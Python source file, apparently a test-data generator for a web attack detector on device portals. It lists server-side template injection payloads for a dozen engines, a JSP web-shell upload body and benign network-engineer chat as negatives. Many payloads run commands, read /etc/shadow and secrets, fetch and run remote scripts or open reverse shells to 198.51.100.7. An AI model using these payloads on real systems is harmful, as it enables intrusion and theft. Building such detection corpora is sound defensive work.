    "{if system('cat /etc/passwd')}{/if}",
    "{if phpinfo()}{/if}",
    "{fetch file='/etc/shadow'}",
    "{include file='file:/etc/passwd'}",
    "{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\"id\")}')}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{math equation='(\"\\163\\171\\163\\164\\145\\155\")(\"\\151\\144\")'}",
]


def hb(code: str) -> str:
    """The Handlebars constructor-chain gadget that runs `code` as a Function body (Handlebars < 4.6)."""
    return ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
            "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
            "{{this.pop}}{{this.push \"" + code + "\"}}{{this.pop}}{{#each conslist}}"
            "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")


# handlebars. Target: Handlebars in Node.js device clouds (alarm e-mails, Node-RED-style dashboards).
HANDLEBARS: list[Entry] = [
    hb("return require('child_process').execSync('id');"),
    hb("return process.mainModule.require('child_process').execSync('cat /etc/passwd');"),
    hb("return global.process.mainModule.constructor._load('child_process').execSync('busybox telnetd -l sh');"),
    hb("return JSON.stringify(process.env);"),
    hb("return process.mainModule.require('fs').readFileSync('/data/configuration.yaml','utf8');"),
    hb("process.mainModule.require('child_process').exec('nc 198.51.100.7 4444 -e /bin/sh');"),
    hb("return process.mainModule.require('child_process').execSync('wget -qO- http://198.51.100.7/h.sh|sh');"),
    hb("return process.mainModule.require('child_process').execSync('ls -la /data');"),
]

# pug. Target: Pug in Express device portals that compile an owner-supplied label or page template.
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('id')}()}",
    "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}",
    "#{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/shadow']).stdout}",
    "- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x",
    "p= global.process.mainModule.require('child_process').execSync('uname -a')",
    "!{process.mainModule.require('fs').readFileSync('/etc/passwd')}",
    "- global.process.mainModule.require('child_process').exec('busybox telnetd -l /bin/sh -p 2323')",
    "div(title=process.mainModule.require('child_process').execSync('id').toString())",
    "each l in global.process.mainModule.require('child_process').execSync('ls /mnt').toString().split('\\n')\n"
    "  li= l",
]

# mako. Target: Mako in Python device UIs (Pyramid/Pylons-based appliance consoles).
MAKO: list[Entry] = [
    "${__import__('os').popen('id').read()}",
    "<% import os; x=os.popen('cat /etc/passwd').read() %>${x}",
    "${self.module.cache.util.os.system('id')}",
    "${self.module.runtime.util.os.popen('uname -a').read()}",
    "<%! import subprocess %>${subprocess.check_output(['cat','/etc/shadow'])}",
    "% for l in __import__('os').popen('ls /etc/config'):\n${l}\n% endfor",
    "${__import__('subprocess').Popen('busybox telnetd -l /bin/sh',shell=True)}",
    "<%\nimport socket,subprocess\ns=socket.create_connection(('198.51.100.7',4444))\n"
    "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\n%>",
    "${context.__class__.__init__.__globals__['__builtins__']['open']('/etc/passwd').read()}",
]

# tornado. Target: Tornado templates in Python device web servers (camera and NVR companion apps).
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{ __import__('os').system('id') }}",
    "{% raw __import__('os').popen('cat /etc/passwd').read() %}",
    "{% apply __import__('os').system %}busybox telnetd -l /bin/sh{% end %}",
    "{{ handler.settings }}",
    "{{ handler.application.settings['cookie_secret'] }}",
    "{% set x = __import__('subprocess').check_output(['id']) %}{{ x }}",
    "{% autoescape None %}{{ __import__('os').popen('uname -a').read() }}",
    "{% import subprocess %}{{ subprocess.check_output('cat /etc/shadow',shell=True) }}",
]

# nunjucks. Target: Nunjucks in Express device portals.
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process\")().mainModule.require('child_process').execSync('cat /etc/passwd') }}",
    "{{ joiner.constructor(\"return process.env\")() }}",
    "{% set x = range.constructor(\"return process.mainModule.require('child_process')"
    ".execSync('uname -a')\")() %}{{ x }}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process')"
    ".exec('busybox telnetd -l /bin/sh')\")()}}",
    "{{ range.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/shadow','utf8')\")() }}",
    "{{ range.constructor(\"process.kill(process.pid)\")() }}",
    "{% for x in [1] %}{{ cycler.constructor(\"return global.process.mainModule.require('child_process')"
    ".execSync('id')\")() }}{% endfor %}",
]

# ejs. Target: EJS in Express device portals (templates and the view-options pollution of res.render(req.query)).
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "<% global.process.mainModule.require('child_process').exec('busybox nc 198.51.100.7 4444 -e sh') %>",
    "<%= global.process.mainModule.constructor._load('child_process').execSync('uname -a') %>",
    "<%- process.mainModule.require('fs').readFileSync('/etc/shadow') %>",
    "<%= JSON.stringify(process.env) %>",
    kv("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
       ".execSync('id');s"),
    kv("settings[view options][escapeFunction]=1;return global.process.mainModule.constructor._load("
       "'child_process').execSync('id');&settings[view options][client]=true"),
    kv("settings[view options][localsName]=x=process.mainModule.require('child_process').execSync('id')", FB),
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') %>",
]

# pebble. Target: Pebble in Java/Spring device dashboards.
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{% set cmd = 'cat /etc/passwd' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6]"
    ".invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String')"
    ".constructors[0].newInstance(([bytes]).toArray()) }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/pebble') }}",
    "{{ beans.environment.getProperty(\"spring.datasource.password\") }}",
    "{{ request.getServletContext().getClassLoader().loadClass('java.lang.Runtime') }}",
    "{% set r = (1).TYPE.forName('java.lang.Runtime') %}{{ r.methods[6].invoke(null,null)"
    ".exec('busybox telnetd -l /bin/sh') }}",
    "{{ 'a'.getClass().forName('java.lang.ProcessBuilder').getConstructors()[0] }}",
]

# razor. Target: Razor in ASP.NET video-management and building-management servers on Windows.
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://198.51.100.7/a.ps1|iex\"); }",
    "@System.IO.File.ReadAllText(@\"C:\\Windows\\win.ini\")",
    "@System.IO.Directory.GetFiles(@\"C:\\inetpub\\wwwroot\")",
    "@(new System.Net.WebClient().DownloadString(\"http://198.51.100.7/x\"))",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\";"
    " p.StartInfo.Arguments = \"/c net user\"; p.Start(); }",
    "@System.Environment.GetEnvironmentVariables()[\"ConnectionStrings\"]",
    "@System.IO.File.WriteAllText(@\"C:\\inetpub\\wwwroot\\x.aspx\", \"<%@ Page Language=\\\"C#\\\" %>"
    "<% System.Diagnostics.Process.Start(Request[\\\"c\\\"]); %>\")",
    "@{ System.Diagnostics.Process.Start(\"cmd.exe\","
    " \"/c type C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts\"); }",
    "@Html.Raw(System.IO.File.ReadAllText(\"web.config\"))",
]

# go-templates. Target: Go text/template in device back ends and tools (Caddy templates on the edge box, Hugo
# docs sites, gomplate/consul-template renderers of device configs, Sprig-enabled alert templates).
GO_TEMPLATES: list[Entry] = [
    "{{ include \"/etc/passwd\" }}",
    "{{ readFile \"/etc/shadow\" }}",
    "{{ listFiles \"/\" }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ expandenv \"$DB_PASSWORD\" }}",
    "{{ file.Read \"/etc/config/wireless\" }}",
    "{{ .Env.MQTT_PASSWORD }}",
    "{{ printf \"%#v\" . }}",
    "{{ range $k, $v := . }}{{ $k }}={{ $v }} {{ end }}",
    "{{define \"x\"}}<script>alert(document.domain)</script>{{end}}{{template \"x\"}}",
]

# liquid. Target: Liquid (LiquidJS in Node device portals, Jekyll docs builds): file reads through include, render
# and layout, and leaks of the template context.
LIQUID: list[Entry] = [
    "{% include '../../../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% layout '../../../../../../etc/shadow' %}",
    "{%- liquid\n  render '../../../../etc/config/wireless'\n-%}",
    "{% capture x %}{% include '../../../../proc/self/environ' %}{% endcapture %}{{ x }}",
    "{{ settings | json }}",
    "{{ site | jsonify }}",
    "{% include '/app/.env' %}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIAL),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]

# the device family's own parameter names, by sub-family (else by category)
NAMES: dict[str, Sequence[str]] = {
    "nodejs-injection": ["func", "expr", "formula", "rule", "condition"],
    "nodejs-dos": ["filter", "pattern", "func", "match", "expr"],
    "ssrf-cloud-metadata": ["snapshot_url", "fw_url", "webhook_url", "acs_url", "feed_url"],
    "ssrf-internal-ip": ["remote_url", "test_url", "syslog_server", "upnp_callback", "fw_url"],
    "javascript-prototype-pollution": ["settings", "wifi", "device", "config"],
    "ruby-injection": ["device_name", "backup_file", "label", "config"],
    "perl-injection": ["file", "host", "old", "mode", "target"],
    "php-data-scheme": ["page", "lang", "file", "inc", "template"],
    "java-serialization": ["javax.faces.ViewState", "state", "session", "data"],
    "deserialization-gadgets": ["javax.faces.ViewState", "data", "config"],
    "log4shell": ["username", "remember", "hostname", "device_name", "mac"],
    "expression-language": ["action", "lang", "message", "redirect"],
    "jsp-upload": ["firmware", "license", "backup", "file"],
}
CATEGORY_NAMES: dict[str, Sequence[str]] = {
    "generic": ["ping_ip", "host", "url", "target"],
    "java": ["data", "config", "script", "expr", "payload"],
    "ssti": ["devname", "ssid", "hostname", "alias", "location", "msg_template", "label", "subject"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    unique = True
    documents = True
    upload = "[backup]\nversion=1.0.4\n"
    raw_places = ("form", "query", "param-name", "rs-param-name", "rs-query")
    path_forbids = "/?#"
    xml_controls = "\n\t\r"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES.get(sub) or CATEGORY_NAMES[category]
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload.startswith("\xac\xed")

    def upload_body(self, filename: str) -> str:
        """A .jsp/.jspx name carries the shell it is named for; any other name the device's backup file."""
        if ".jsp" in filename.lower():
            return ("<%@ page import=\"java.io.*\" %><% Process p=Runtime.getRuntime().exec("
                    "request.getParameter(\"cmd\")); %>")
        return self.upload


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by network and facilities engineers (Slack chat and bios about router
# and camera rollouts, firmware, VLANs, IP plans, port forwards, ping/traceroute output, config templates; searches
# for colleagues by site and device; vendor support links; quoted errors and LED codes; config and firmware file
# names; ordinary headers)
CHAT = [
    # rollouts and firmware
    "camera rollout at the Leeds warehouse is done, 24 Hikvision bullets on VLAN 40, NVR at 10.40.0.10",
    "upgraded the Archer AX55 at the Bristol office to 1.2.1 Build 20231120, no issues so far",
    "firmware for the DS920+ is DSM 7.2.1-69057 Update 5, please don't auto-update the one in the lab",
    "the RT-AX88U in the meeting room came back after the flash, had to hold WPS for 10 s to get into rescue mode",
    "new Reolink NVR firmware v3.3.0.282 fixes the RTSP drops we saw on channel 7",
    "MikroTik hAP ax3 on RouterOS 7.14.2 now, winbox on 8291 is only reachable from the mgmt VLAN",
    "FortiGate 60F upgraded to 7.2.8, the SSL VPN portal is disabled, we only use IPsec now",
    "pfSense 2.7.2 on the branch box, config.xml backed up before the upgrade",
    "the Ubiquiti controller moved to the UniFi Network Application 8.1, log4j patch was in 6.5.55 long ago",
    "the UniFi login page has a 'remember me' checkbox now, people keep asking about it",
    "zigbee2mqtt updated to 1.36, the coordinator firmware is 20230507, all 38 sensors re-paired fine",
    "Node-RED flow for the HVAC alarms is in git now, the function node just formats msg.payload",
    "Home Assistant template for the freezer alert: {{ states('sensor.freezer_temp') | float > -15 }}",
    "someone please check the printer on floor 3, the HP shows error 49.4C02 again",
    "the Brother MFC in reception has a blinking orange LED, the manual says toner low",
    "the Synology status LED is orange and it beeps every few seconds, 'Volume 1 degraded', drive 3 is dead",
    "QNAP TS-453D firmware 5.1.7.2770, the Malware Remover ran clean last night",
    "the Axis cameras at the gate need the new ACAP for plate reading, license file is in the drive",
    "Honeywell thermostat firmware rolled out to all 12 floors, schedule templates unchanged",
    "Siemens S7-1200 gateway's web server is off again after the audit, we only use TIA Portal",
    "the Ignition gateway backup (.gwbk) from Friday is on the NAS, 1.4 GB",
    "Niagara station on the BMS controller is 4.13, the supervisor talks to it over Fox on 4911",
    # IP plans, VLANs, port forwards, CLI snippets
    "IP plan for the new site: 10.60.0.0/16, VLAN 10 data, 20 voice, 30 Wi-Fi guests, 40 CCTV, 50 BMS",
    "port forward on the branch router: 8443 -> 10.40.0.10:443 for the NVR, only from the HQ public IP",
    "ping 10.40.0.10 -c 4 gives 4 packets transmitted, 4 received, 0% packet loss, rtt avg 1.9 ms",
    "traceroute to 8.8.8.8 stops at hop 3 (100.64.0.1), that's the ISP's CGNAT, not us",
    "nslookup nvr.leeds.corp.example returns 10.40.0.10, DNS is fine, it's the firewall rule",
    "interface vlan 40\n ip address 10.40.0.1 255.255.255.0\n ip helper-address 10.0.0.5",
    "switchport trunk allowed vlan 10,20,30,40 on Gi1/0/48 towards the camera switch",
    "set interfaces ge-0/0/3 unit 0 family inet address 192.168.50.1/24 on the SRX, committed",
    "ip route 0.0.0.0 0.0.0.0 203.0.113.1 is the only static on the branch, everything else is OSPF",
    "the diag page on the router has a ping box, I used it to check 8.8.8.8 from the WAN side",
    "the DHCP pool for VLAN 30 is 10.60.30.50-10.60.30.250, lease 8 h",
    "reserved 10.60.40.0/24 for cameras and 10.60.50.0/24 for BMS controllers, please update the IPAM",
    "ubnt@US-48:~$ swctrl poe show gives 312 W used of 500 W, we can add 6 more cameras",
    "show ip interface brief | include up lists 14 interfaces, Gi0/1 is down, the SFP is missing",
    "the TR-069 ACS URL on the ISP router is http://acs.isp.example:7547, we can't change it",
    "UPnP is off on every router, port forwards are manual and documented in the sheet",
    "who put 169.254.x.x addresses on the lab switches? DHCP didn't reach them, that's APIPA",
    "the cloud VMs block 169.254.169.254 from containers now, IMDSv2 only, hop limit 1",
    "the camera snapshot URL for the dashboard is http://10.40.0.21/ISAPI/Streaming/channels/101/picture",
    "RTSP stream is rtsp://10.40.0.21:554/Streaming/Channels/101, the NVR pulls it over TCP",
    "localhost:8123 is Home Assistant on the Pi, don't expose it, use the Nabu Casa link",
    "the Grafana alert template uses {{ .Labels.instance }} and {{ .Annotations.summary }}, works fine",
    "our Jinja template for the access switches loops {% for vlan in vlans %} and renders the trunk list",
    "Ansible run for the 40 branch routers finished, 2 failed on the ntp_server variable, fixing the inventory",
    "the NetBox config template renders hostname {{ device.name }} and the mgmt IP per site",
    "the NTP servers are 10.0.0.5 and 10.0.0.6, the cameras drift if you give them pool.ntp.org through NAT",
    "remote syslog on all the firewalls goes to 10.0.0.20:514, Graylog picks it up",
    "backup of the core switch config is running-config-core1-2024-06-14.txt in the configs repo",
    "the printer's web UI at http://10.20.3.15 asks for the admin PIN on the sticker",
    # quoted errors and LED codes
    "error on the NVR: 'HDD Error, HDD No. 2' and the status LED flashing red",
    "the Cisco switch shows %PM-4-ERR_DISABLE: bpduguard error detected on Gi1/0/12",
    "the AP LED is flashing blue-white, per Ubiquiti that means it's waiting for adoption",
    "GoAhead web server on the old DVR answers 'Access Denied' even with the right password, needs a reboot",
    "router says 'Firmware upload failed: invalid image (checksum mismatch)', re-downloaded, works now",
    "lighttpd on the set-top box logs '(mod_cgi.c.1234) cgi died' every minute, vendor ticket opened",
    "the boa webserver on the IP phone crashes if you open two tabs, known issue, fixed in 3.4",
    "the Java applet camera viewer is dead, the new web client uses HTML5 and ViewState cookies",
    "ERROR: ${HOSTNAME} not set in the provisioning script, the template didn't substitute",
    "the Velocity template in the wiki macro for the site list broke after the upgrade, $site.name is empty",
    # facilities and support
    "badge readers on floor 2 are back after the PoE switch reboot",
    "the access control panel's web page moved to https://10.50.0.8, self-signed cert, accept it once",
    "please label the patch panel ports, the new cameras are on 1-24, APs on 25-36",
    "the smart meter gateway in the basement needs a firmware update, the vendor tech comes Thursday",
    "the lift monitoring box phones home over 4G, not our network, nothing to configure",
    "cold store temperature sensors report to the hub every 60 s, alerts go to #facilities-alerts",
    # bios
    "Network engineer, CCNP. Routers, switches, too many VLANs. Site lead for Leeds and Bristol.",
    "Facilities tech. Cameras, access control, BMS. If it has an IP and a fan, it's probably mine.",
    "Security systems installer. Hikvision, Axis, Milestone. Ask me about PoE budgets.",
    "IoT and smart-building engineer. Zigbee, MQTT, Node-RED, Home Assistant at home.",
    "NOC on-call this week. ping, traceroute, coffee.",
    "OT network engineer: PLCs, HMIs, Modbus/TCP gateways, and the firewalls between them.",
    "Firmware QA for the router team. I flash things for a living.",
]

SEARCHES = [
    "leeds", "bristol noc", "cctv", "vlan 40", "nvr", "camera", "router", "firmware", "synology", "qnap",
    "hikvision", "axis", "mikrotik", "pfsense", "fortigate", "unifi", "ubiquiti", "zigbee", "node-red",
    "home assistant", "bms", "niagara", "ignition", "plc", "hmi", "printer floor 3", "facilities", "ot network",
    "ping", "traceroute", "tr-069", "upnp", "poe", "rtsp", "snmp", "ntp", "syslog", "o'connor", "site lead",
    "10.40.0.10",
]

URLS = [
    "https://www.synology.com/en-global/support/download/DS920+?version=7.2#system",
    "https://www.tp-link.com/us/support/download/archer-ax55/",
    "https://www.asus.com/supportonly/rt-ax88u/helpdesk_bios/",
    "https://help.mikrotik.com/docs/display/ROS/Winbox",
    "https://docs.netgate.com/pfsense/en/latest/backup/restore.html",
    "https://community.ui.com/releases/UniFi-Network-Application-8-1-113/",
    "https://www.hikvision.com/en/support/download/firmware/",
    "https://www.axis.com/support/firmware",
    "https://www.qnap.com/en/download?model=ts-453d&category=firmware",
    "https://docs.fortinet.com/document/fortigate/7.2.8/fortios-release-notes",
    "https://www.zigbee2mqtt.io/guide/configuration/",
    "https://nodered.org/docs/user-guide/writing-functions",
    "https://www.home-assistant.io/docs/configuration/templating/",
    "https://docs.inductiveautomation.com/docs/8.1/platform/gateway/gateway-backups",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://support.hp.com/us-en/document/ish_3952458-2629394-16",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "http://10.40.0.21/ISAPI/Streaming/channels/101/picture",
    "https://kb.netgear.com/000059633/How-do-I-set-up-port-forwarding-on-my-Nighthawk-router",
]

PROSE = [
    "camera rollout Leeds warehouse VLAN 40",
    "router firmware versions per site",
    "who owns the NVR at 10.40.0.10",
    "port forward 8443 to NVR",
    "ping results branch routers",
    "traceroute stops at hop 3 CGNAT",
    "Synology volume degraded drive 3",
    "printer error 49.4C02 floor 3",
    "UniFi controller upgrade 8.1",
    "log4j patch status on appliances",
    "Home Assistant freezer template",
    "Node-RED HVAC alarm flow",
    "BMS Niagara station 4.13",
    "Ignition gateway backup Friday",
    "TR-069 ACS URL on ISP router",
    "UPnP disabled on all routers",
    "IMDSv2 hop limit for containers",
    "Jinja switch template vlans loop",
    "NetBox config template hostname",
    "remote syslog 10.0.0.20:514",
    "running-config-core1-2024-06-14.txt",
    "PoE budget US-48 312 W",
    "badge readers floor 2",
    "GoAhead DVR access denied",
    "lighttpd cgi died set-top box",
    "Velocity wiki macro site list",
    "RTSP channel 101 snapshot",
    "ERR_DISABLE bpduguard Gi1/0/12",
    "O'Connor, site lead Bristol",
    "firmware upload checksum mismatch",
]

PROFILES = [
    ("Aisha Rahman", "Unit 4, Leeds Logistics Park, Leeds"),
    ("Tomasz Nowak", "Temple Quay 2, Bristol"),
    ("Siobhan O'Connor", "Harbour Rd 9, Cork"),
    ("Raj Patel", "Plant 3, Pune Industrial Estate, Pune"),
    ("Marta Silva", "Armazem 12, Porto"),
    ("Jonas Berg", "Lagerhus 5, Gothenburg"),
    ("Chen Wei", "Building B, Science Park, Suzhou"),
    ("Fatima Zahra", "Rue du Port 3, Casablanca"),
    ("Lukas Meyer", "Werkstrasse 14, Stuttgart"),
    ("Emma Clarke", "Data Hall 2, Slough Trading Estate, Slough"),
    ("Diego Fernandez", "Nave 7, Poligono Sur, Sevilla"),
    ("Noah Williams", "Cold Store 1, Dock Rd, Southampton"),
]

UPLOAD_NAMES = [
    "running-config-core1-2024-06-14.txt", "RT-AX88U_3.0.0.4_388_24243-g1d3d5b4.zip",
    "DSM_DS920+_69057.pat", "config-pfsense-branch-20240614.xml", "unifi-backup_8.1.113_autobackup.unf",
    "routeros-7.14.2-arm64.npk", "FGT_60F-v7.2.8.F-build1639-FORTINET.out", "hikvision-nvr-config.bin",
    "ignition-gateway-2024-06-14.gwbk", "niagara-station-main.bog", "zigbee2mqtt-configuration.yaml",
    "node-red-flows-hvac.json", "ip-plan-leeds-v3.xlsx", "vlan-matrix.csv", "camera-list-floor2.csv",
    "patch-panel-labels.pdf", "TS-453D_20240430-5.1.7.2770.img", "axis-acap-license.xml",
    "switch-template.j2", "printer-hp-m479-fw-002_2403A.bin", "site-survey-photos.zip",
    "ping-traceroute-results.txt",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "HomeAssistant/2024.6.1 aiohttp/3.9.5 Python/3.12"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "okhttp/4.12.0"),
    ("Referer", "https://unifi.corp.example:8443/manage/default/devices"),
    ("Referer", "https://nms.corp.example/devices?site=leeds&type=camera"),
    ("Referer", "https://www.synology.com/en-global/support/download/DS920+"),
    ("Referer", "https://app.example.com/admin/users/search?q=leeds"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Forwarded-For", "10.40.0.10"),
    ("Accept-Language", "en-GB,en;q=0.9,pl;q=0.7"),
    ("Cookie", "session=abc123; site=leeds; view=cameras"),
    ("Cookie", "session=abc123; last_search=vlan%2040; tz=Europe%2FLondon"),
    ("X-Request-Id", "nms-7f3a2c1e-0b4d-4e8a-9c61-2d5f8b7a1e03"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
